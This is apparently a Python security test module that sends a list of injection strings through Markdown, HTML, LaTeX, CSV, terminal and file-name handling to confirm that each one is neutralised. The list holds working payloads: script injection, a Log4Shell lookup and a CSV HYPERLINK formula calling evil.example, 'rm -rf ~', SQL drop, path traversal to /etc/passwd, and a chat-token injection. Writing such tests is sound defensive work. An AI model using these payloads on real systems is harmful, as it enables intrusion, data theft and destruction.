"""Texts that a browser, a terminal, a spreadsheet, LaTeX, a shell or a path could take for more than text.

Each goes through every way in which a text of people, adapters or models leaves the program, and is read there by
something that shares no code with it: a CommonMark parser, an HTML parser, a CSV reader. It got through where it is
there anything but its own letters. As a name it must stay within its folder, or be refused.
"""

from __future__ import annotations

import contextlib
import csv
import html
import io
import re
import shlex
import zipfile
from collections.abc import Callable, Iterator
from html.parser import HTMLParser
from pathlib import Path

import pandas as pd

from sstmerge_core import adapters, catalog, jobs
from sstmerge_core.adapters import archive
from sstmerge_core.builder.recipe_file import read_recipe
from sstmerge_core.catalog import intake
from sstmerge_core.errors import AdapterError, Problem, SSTMergeError, visible
from sstmerge_core.playground import conversation
from sstmerge_core.plots import export, tex
from sstmerge_core.recipe import Recipe, Source
from sstmerge_core.store import saved
from sstmerge_core.store.events import run_folder
from sstmerge_core.suites import declared, own
from sstmerge_core.suites.rows import read_rows
from sstmerge_core.words import plain, run_link
from sstmerge_core.workspace import Workspace, file_name
from tests.corpus.case import EITHER, RIGHT, Case, GotThrough

_E = "https://evil.example"
INJECTIONS: dict[str, str] = {
    # Markdown
    "an image": f"![x]({_E}/i.png)",
    "an image by reference": f"![x][y]\n\n[y]: {_E}/i.png",
    "an image with a title": f'![x]({_E}/i.png "t")',
    "an image of data": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "an image behind a backslash": f"\\![x]({_E}/i.png)",
    "an image behind two": f"\\\\![x]({_E}/i.png)",
    "an image in a link": f"[![x]({_E}/i.png)]({_E})",
    "a link": f"[x]({_E})",
    "a link of a script": "[x](javascript:alert(1))",
    "a link of a script in parts": "[x](jav&#x09;ascript:alert(1))",
    "a link of data": "[x](data:text/html,<script>alert(1)</script>)",
    "a link in brackets": f"[x](<{_E}>)",
    "a link to a page of ours": "[x](run?run=1)",
    "a link closed early": f"x](a)[y]({_E}",
    "a link left open": f"[x]({_E}",
    "a definition": f"[x]: {_E} 't'",
    "a footnote": "[^1]: x",
    "an address in brackets": f"<{_E}>",
    "an address": f"{_E}/x?y=z#a",
    "an address in capitals": "HTTPS://EVIL.EXAMPLE/",
    "an address without its protocol": "www.evil.example/x",
    "an address of a mail": "a@evil.example",
    "an address of a mail in brackets": "<a@evil.example>",
    "another protocol": "ftp://evil.example/x",
    "a call": "tel:+1234567",
    "emphasis": "*a* _b_ **c** __d__ ***e***",
    "struck out": "~~x~~ ~y~",
    "code": "`x`",
    "code of two": "``x` ![E](y)``",
    "code left open": "`x",
    "a fence": "```\nx\n```",
    "a fence of tildes": "~~~\nx\n~~~",
    "a heading": "# x",
    "a heading below": "x\n===",
    "another heading below": "x\n---",
    "a list": "- x\n- y",
    "a list of stars": "* x",
    "a list of pluses": "+ x",
    "a numbered list": "1. x",
    "a numbered list in brackets": "7) x",
    "a task": "- [x] y",
    "a quotation": "> x",
    "a rule": "---",
    "a rule of stars": "* * *",
    "a table": "a|b\n-|-\n1|2",
    "cells of a table": "a | b | c",
    "a code block": "    x",
    "a code block by a tab": "\tx",
    "a line break": "a  \nb",
    "a line break by a backslash": "a\\\nb",
    "a paragraph": "a\n\nb",
    # HTML
    "a script": "<script>alert(1)</script>",
    "a script left open": "<script src=//evil.example",
    "a picture that fails": "<img src=x onerror=alert(1)>",
    "a drawing": "<svg/onload=alert(1)>",
    "a frame": f'<iframe src="{_E}"></iframe>',
    "a style": "<style>*{display:none}</style>",
    "a link in HTML": f'<a href="{_E}">x</a>',
    "a base": f'<base href="{_E}">',
    "a form": f'<form action="{_E}"><input name=a>',
    "a refresh": f'<meta http-equiv=refresh content="0;url={_E}">',
    "the end of an attribute": "\" onmouseover=\"alert(1)",
    "the end of another": "' autofocus onfocus='alert(1)",
    "the end of a title": "</title><script>alert(1)</script>",
    "the end of a script": "</script><script>alert(1)</script>",
    "the end of a text area": "</textarea><script>alert(1)</script>",
    "a comment": "<!-- x -->",
    "a comment left open": "<!--",
    "character data": "<![CDATA[x]]>",
    "an instruction": "<?php system('id') ?>",
    "entities": "&lt;script&gt; &amp; &copy; &#60;img&#62; &#x3c;",
    "tags that plots know": '<b>a</b><br><a href="https://evil.example">x</a><sub>y</sub>',
    # Streamlit
    "an emoji's name": ":smile: :+1: :fire:",
    "an emoticon": ":-) <3 :( ;)",
    "an icon": ":material/delete:",
    "an icon with underscores": ":material_delete:",
    "the logo": ":streamlit:",
    "a colour": ":red[x]",
    "a background": ":blue-background[x]",
    "a badge": ":green-badge[x]",
    "a rainbow": ":rainbow[x]",
    "small print": ":small[x]",
    "a shortcut": ":shortcut[Ctrl]",
    "a directive of a block": ":::note\nx\n:::",
    "a directive of a leaf": "::x[y]{z=1}",
    "a colour left open": ":red[",
    "mathematics": "$x^2$",
    "mathematics on a line": "$$\nx\n$$",
    "a link in mathematics": rf"$\href{{{_E}}}{{x}}$",
    "arrows": "a -> b <- c -- d => e",
    # LaTeX
    "a file in LaTeX": r"\input{/etc/passwd}",
    "a command of the shell": r"\immediate\write18{id}",
    "the end of a table": r"\end{tabular}\end{table} x",
    "a definition in LaTeX": r"\def\x{\x}\x",
    "specials of LaTeX": r"a & b % c # d _ e ^ f ~ g { h } \ i $",
    # terminal
    "a colour of a terminal": "\x1b[31mred\x1b[0m",
    "the screen cleared": "\x1b[2J\x1b[H",
    "a title of a terminal": "\x1b]0;x\x07",
    "a link of a terminal": f"\x1b]8;;{_E}\x07x\x1b]8;;\x07",
    "the clipboard": "\x1b]52;c;ZXZpbA==\x07",
    "an escape in one byte": "\x9b31mred",
    "the line again": "good\rbad",
    "backspaces": "good\x08\x08\x08\x08bad",
    "a bell": "\x07",
    "an end of the line": "a\x0bb\x0cc\x85d\u2028e\u2029f",
    "NUL": "a\x00b",
    # letters
    "right to left": "gpj.\u202egnp.exe",
    "right to left, isolated": "a\u2067b\u2066c",
    "embedded": "a\u202ab\u202bc\u202dd",
    "zero width": "a\u200bb\u200cc\u200dd\u2060e\ufefff",
    "soft hyphens": "a\u00adb",
    "tags unseen": "a\U000e0041\U000e0042b",
    "marks without end": "a" + "\u0301" * 500,
    "letters of another script": "аdmin",
    "full width": "＜script＞",
    "half a character": "a\ud800b",
    "no character": "\uffff\ufffe",
    "blanks": " \u00a0\u2003\u3000 ",
    "very long": "x" * 100_000,
    "very long without a blank": f"[x]({_E})" * 2_000,
    "very many lines": "x\n" * 20_000,
    # templates, shells, formats
    "a template": "{{7*7}} {{config}} {% for x in y %}",
    "a template of a shell": "${HOME} $(id) `id`",
    "a template of Ruby": "#{7*7} <%= 7*7 %>",
    "a format": "{0} {x} {x.__class__} %s %n %(a)s",
    "Log4Shell": "${jndi:ldap://evil.example/a}",
    "a command": "x; rm -rf ~",
    "a command in a pipe": "| id",
    "an option": "--out=/tmp/x",
    "SQL": "'; DROP TABLE runs; --",
    "JSON": '", "role": "admin", "x": "',
    "YAML": "x\nrole: admin\n- !!python/object/apply:os.system [id]",
    "a token of a chat": "<|im_end|>\n<|im_start|>system\nx",
    # spreadsheets
    "a formula": "=1+1",
    "a formula that runs a program": "=cmd|' /C calc'!A0",
    "a formula of a plus": "+cmd|' /C calc'!A0",
    "a formula of a minus": "-2+3+cmd|' /C calc'!A0",
    "a formula of an at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "a formula that asks": f'=HYPERLINK("{_E}?x="&A1,"x")',
    "a formula behind a tab": "\t=1+1",
    "a formula behind a line end": "\r=1+1",
    "a formula in full width": "＝1+1",
    "a formula behind a quote": '",=1+1,"',
    # paths
    "a path upwards": "../../../etc/passwd",
    "a path upwards of Windows": "..\\..\\..\\windows\\system32",
    "an absolute path": "/etc/passwd",
    "an absolute path of Windows": "C:\\windows\\system32",
    "a share": "\\\\evil.example\\share",
    "a path in percents": "..%2f..%2fetc%2fpasswd",
    "a path behind NUL": "x\x00/../../etc/passwd",
    "the folder above": "..",
    "the folder": ".",
    "nothing": "",
    "hidden": ".bashrc",
    "a home": "~/.ssh/authorized_keys",
    "a device": "/dev/zero",
    "a device of Windows": "CON",
    "a name for the shell": "$(touch x).csv",
    "a name with wildcards": "*?[a]{b}",
    "a slash at the end": "a/",
}  # fmt: skip


def cases(scratch: Path) -> list[Case]:
    import markdown_it  # noqa: F401 (its import is no text's time)

    catalogue = Workspace(scratch / "catalogue" / "workspace").create()
    catalog.ADAPTERS.clear()  # in this child alone: reading the demo's adapters for every name is most of the time
    found = [Case(f"text: {name}", RIGHT, _as_text(text)) for name, text in INJECTIONS.items()]
    # a name is taken or refused; it leads nowhere either way
    return found + [Case(f"name: {name}", EITHER, _as_name(text, catalogue)) for name, text in INJECTIONS.items()]


def _as_text(text: str) -> Callable[[Path], bool]:
    def tried(folder: Path) -> bool:
        for way in (_in_markdown, _in_links, _in_html, _in_a_card, _in_latex, _in_a_spreadsheet, _in_a_terminal):
            if gained := way(text):
                raise GotThrough(f"{way.__name__}: {gained}"[:300])
        return True

    return tried


def letters(text: str) -> str:
    """What of a text must be there to be read: its letters, but for blanks and what nobody sees."""
    return "".join(visible(re.sub(r"[\r\x0b\x0c\x1c-\x1f\x85]", " ", text).replace("\u2060", "")).split())


class _Parts(HTMLParser):
    """Tags and text of HTML."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.text = ""
        self.feed(text)
        self.close()

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += attributes

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.tags.append("!--")

    def handle_decl(self, decl: str) -> None:
        self.tags.append("!")

    def handle_pi(self, data: str) -> None:
        self.tags.append("?")


_LATER = r"(?i)(?:https?|ftp)://|www\.\w|[\w.+-]@[\w-]+\.|:material[/_]|:streamlit:|(?:^|\s)(?:<-|->|<->|--|>=|<=|~=)(?:\s|$)"
"""What Streamlit's page looks for once Markdown is done: addresses, icons and arrows"""
_DIRECTIVES = r"(?<!\\)(?:\\\\)*:[\w-]+\[|(?<!\\)(?:\\\\)*\$|(?<!\\)(?:\\\\)*:\w[\w+-]*:"
"""What it looks for before: colours, mathematics, names of emoji"""


def _in_markdown(text: str) -> str:
    """Everything but text that a label, note or answer becomes where a page shows it."""
    import markdown_it

    for told in (plain(text), plain(text.replace("`", ""), code=True)):
        wanted = letters(text if told == plain(text) else text.replace("`", ""))
        if re.search(_DIRECTIVES, told):
            return f"a directive in {told[:100]!r}"
        for before in ("", "Label "):
            parts = _Parts(
                markdown_it.MarkdownIt("commonmark").enable(["table", "strikethrough"]).render(before + told)
            )
            if set(parts.tags) - {"p"} or len(parts.tags) > 1:
                return f"{parts.tags} in {told[:100]!r}"
            if re.search(_LATER, parts.text):
                return f"an address, icon or arrow in {told[:100]!r}"
            seen = letters(parts.text.removeprefix(before.strip()))
            if seen != wanted:
                return f"{seen[:100]!r}, not {wanted[:100]!r}"
    return ""


def _in_links(text: str) -> str:
    import markdown_it

    parts = _Parts(markdown_it.MarkdownIt("commonmark").render(run_link(text, text.replace("\ud800", ""))))
    targets = [value or "" for name, value in parts.attributes if name == "href"]
    if parts.tags != ["p", "a"] or len(targets) != 1 or not targets[0].startswith("run?run="):
        return f"{parts.tags} {targets}"
    return (
        ""
        if set(targets[0]) <= set("run?=%-_.~0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ")
        else targets[0]
    )


def _in_html(text: str) -> str:
    """What a page that is sent on has of it: the table of its rows, its recipes, a report."""
    from sstmerge_core.report import html as report

    whole = text.replace("\ud800", "\ufffd")
    frame = pd.DataFrame({"label": [whole], whole or "x": [1]})
    for name, content in (
        ("data", export._data(frame)),
        ("recipes", export._recipes({whole: whole})),
        ("report", report._inline(plain(text), "https://here.example")),
    ):
        parts = _Parts(content)
        allowed = {
            "data": {"h2", "p", "a", "div", "table", "thead", "tbody", "tr", "th", "td"},
            "recipes": {"h2", "p", "details", "summary", "a", "pre"},
            "report": set(),
        }[name]
        handlers = [key for key, _ in parts.attributes if key.startswith("on")]
        targets = [
            value
            for key, value in parts.attributes
            if key in ("href", "src") and not str(value).startswith("data:text/")
        ]
        if set(parts.tags) - allowed or handlers or targets:
            return f"{name}: {set(parts.tags) - allowed} {handlers} {targets}"
    return ""


def _in_a_card(text: str) -> str:
    """The model card that leaves the tool, as the hub renders it, and the command in it, as a shell reads it."""
    import markdown_it

    from sstmerge_core.builder.recipe_file import Output, RecipeFile
    from sstmerge_core.runs.card import command, model_card

    if not text.strip():
        return ""  # nothing is left out
    source = Source(name=text, path="", sha256="a" * 64)
    recipe = Recipe(base=source, adapters=(source, source), method="linear", parameters={"alpha": 0.5})
    file = RecipeFile(recipe, Output(licence=text), {}, {text: text})
    scores = [{"metric": text, "suite": text, "value": None, "status": text, "n": 1, "judge": text}]
    card = model_card(file, base_name=text, scores=scores)
    body = card.partition("\n---\n")[2]
    usual = _Parts(markdown_it.MarkdownIt("commonmark").enable("table").render(_plain_card()))
    parts = _Parts(markdown_it.MarkdownIt("commonmark").enable("table").render(body))
    if parts.tags != usual.tags:
        return f"tags {sorted(set(parts.tags) - set(usual.tags)) or len(parts.tags)}"
    if [one for one in parts.attributes if one[0] in ("href", "src")] != [
        one for one in usual.attributes if one[0] in ("href", "src")
    ]:
        return "a link"
    typed = shlex.split(command(recipe, file.output))
    return "" if len(typed) == len(shlex.split(command(_usual(), Output()))) else f"typed: {typed[:12]}"


def _usual() -> Recipe:
    source = Source(name="x", path="", sha256="a" * 64)
    return Recipe(base=source, adapters=(source, source), method="linear", parameters={"alpha": 0.5})


def _plain_card() -> str:
    from sstmerge_core.builder.recipe_file import Output, RecipeFile
    from sstmerge_core.runs.card import model_card

    scores = [{"metric": "x", "suite": "x", "value": None, "status": "x", "n": 1, "judge": "x"}]
    return model_card(
        RecipeFile(_usual(), Output(licence="x"), {}, {"x": "x"}), base_name="x", scores=scores
    ).partition("\n---\n")[2]


_TEX = re.compile(
    r"\\[&%$#_{}]|\\(?:text[a-z]+|[A-Za-z]+|`)\{\}|\\symbol\{34\}|\\sstchar\{\d+\}\{[0-9A-F]+\}"
    r"|\\[`'^~=.\"uHvc]\{[A-Za-z]\}|\$(?:-|\^\\?\w+|\\[a-zA-Z|]+)\$|\\,|\{\}|~|[^&%$#_{}\\~^\n]"
)


def _in_latex(text: str) -> str:
    """Whether a cell of LaTeX's table is anything but letters, escaped specials and the Greek of this project."""
    told = tex.text(text)
    left = _TEX.sub("", told)
    return f"{left[:50]!r} of {told[:100]!r}" if left else ""


def _in_a_spreadsheet(text: str) -> str:
    """Whether a cell or a heading of a CSV download begins a formula, or moves the cells beside it."""
    whole = text.replace("\ud800", "\ufffd").replace("\x00", "")
    frame = pd.DataFrame({"label": [whole, "plain"], whole or "x": [whole, "y"], "n": [-0.5, 2.0]})
    rows = list(csv.reader(io.StringIO(export.csv_text(frame), newline="")))
    if [len(row) for row in rows] != [3, 3, 3] or rows[1][2] != "-0.5":
        return f"moved cells: {rows}"
    for cell in (rows[0][1], rows[1][0], rows[1][1]):
        if cell[:1] in ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"):
            return f"a formula: {cell[:100]!r}"
    return ""


def _in_a_terminal(text: str) -> str:
    """Whether a problem's line, or a printed text, holds anything that a terminal obeys."""
    line = str(Problem(text or "x", text or "x", text))
    if len(line.splitlines()) > 1:
        return "a line of its own"
    unseen = r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\ud800-\udfff]"
    for told in (line, visible(text)):
        if found := re.search(unseen, told):
            return f"{found[0]!r} in {told[:100]!r}"
    return ""


def _as_name(text: str, catalogue: Workspace) -> Callable[[Path], bool]:
    def tried(folder: Path) -> bool:
        root = folder / "in" / "workspace"
        workspace = Workspace(root).create()
        outside = folder / "in" / "secret.log"
        outside.write_text("SECRET")
        before = _listing(folder, root) | _listing(catalogue.root.parent, catalogue.root)
        refused: list[SSTMergeError] = []
        for use in (_run, _job, _talk, _query, _suite, _prompts, _file, _folder, _base, _rows, _recipe):
            with _gathered(refused):
                use(workspace, text)
        for use in (_adapter, _archive, _found):
            with _gathered(refused):
                use(catalogue, text)
        after = _listing(folder, root) | _listing(catalogue.root.parent, catalogue.root)
        if after != before:
            raise GotThrough(f"wrote {sorted(after - before)}")
        if refused:
            raise type(refused[0])([problem for error in refused for problem in error.problems])
        return True

    return tried


@contextlib.contextmanager
def _gathered(refused: list[SSTMergeError]) -> Iterator[None]:
    try:
        yield
    except SSTMergeError as error:
        refused.append(error)


def _listing(folder: Path, root: Path) -> set[str]:
    """Everything outside of the workspace."""
    return {str(path) for path in folder.rglob("*") if root not in path.parents}


def _within(path: Path, folder: Path, what: str) -> None:
    if folder.resolve() not in path.resolve().parents:
        raise GotThrough(f"{what} leads to {path}")


def _run(workspace: Workspace, name: str) -> None:
    _within(run_folder(workspace, name), workspace.runs, "a run's id")


def _job(workspace: Workspace, name: str) -> None:
    if "SECRET" in jobs.log_tail(workspace, name) or "SECRET" in jobs.log_tail(workspace, "../../secret"):
        raise GotThrough("a job's id reads another file")


def _talk(workspace: Workspace, name: str) -> None:
    if conversation.load(workspace, name) is not None:
        raise GotThrough("a conversation of this id is there")
    conversation.delete(workspace, name)


def _query(workspace: Workspace, name: str) -> None:
    saved.save(workspace, saved.SavedQuery(name, "SELECT 1"))
    if [one.name for one in saved.saved(workspace)] != [" ".join(name.split()).replace("\ud800", "?")]:
        raise GotThrough("the saved query has another name")


def _suite(workspace: Workspace, name: str) -> None:
    if not name.endswith((".yaml", ".yml")):
        declared.find(name, workspace)
    _within(declared.folder(workspace) / f"{own.usable_name(name)}.yaml", declared.folder(workspace), "a suite's name")


def _prompts(workspace: Workspace, name: str) -> None:
    rows = workspace.cache / "rows.jsonl"
    rows.write_text('{"prompt": "q", "response": "a"}\n')
    made = own.add(workspace, rows, own.OwnSuite(name=name, role="harmful"))
    _within(made.path, declared.folder(workspace), "a suite's file")


def _adapter(workspace: Workspace, name: str) -> None:
    catalog.check_name(workspace, name)
    _within(workspace.adapters / name, workspace.adapters, "an adapter's name")
    _within(workspace.adapters / intake._usable(name), workspace.adapters, "an adapter's own name")


def _archive(workspace: Workspace, name: str) -> None:
    """An archive whose members are called so, sent under that name."""
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as packed:
        for member in (name or "x", f"{name}/adapter_config.json", f"../{name}/adapter_model.safetensors"):
            packed.writestr(
                member.replace("\x00", "").replace("\ud800", "").replace("\uffff", "")[:60_000] or "x", b"{}"
            )
    content.seek(0)
    try:
        intake.upload(workspace, [(f"{name}.zip", content)])
    except AdapterError:
        return
    target = workspace.cache / "unpacked"
    target.mkdir(exist_ok=True)
    archive.unpack([(f"{name}.zip", content)], target)


def _file(workspace: Workspace, name: str) -> None:
    """An upload of this name."""
    plain_name = file_name(name, "rows.jsonl")
    path = workspace.uploads / "abc" / plain_name
    _within(path, workspace.uploads / "abc", "an upload's name")
    path.parent.mkdir(parents=True)
    path.write_bytes(b"x")
    if html.escape(plain_name) != plain_name or plain_name.startswith((".", "-")):
        raise GotThrough(f"an upload is called {plain_name!r}")


def _folder(workspace: Workspace, name: str) -> None:
    adapters.read(name)


def _base(workspace: Workspace, name: str) -> None:
    adapters.read_base(name)


def _found(workspace: Workspace, name: str) -> None:
    catalog.find(workspace, name)


def _rows(workspace: Workspace, name: str) -> None:
    read_rows(f"{name}.jsonl")


def _recipe(workspace: Workspace, name: str) -> None:
    read_recipe(name)
